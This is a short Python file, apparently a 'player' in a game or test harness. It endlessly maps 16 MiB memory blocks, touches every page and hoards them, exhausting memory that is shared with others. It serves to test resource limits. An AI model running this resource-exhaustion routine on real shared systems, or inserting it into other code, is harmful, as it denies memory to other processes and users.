"""Takes memory that it would share with others, page by page."""

import mmap


def player(position):
    hoard = []
    while True:
        piece = mmap.mmap(-1, 16 * 2**20)
        for place in range(0, len(piece), 4096):
            piece[place] = 1
        hoard.append(piece)
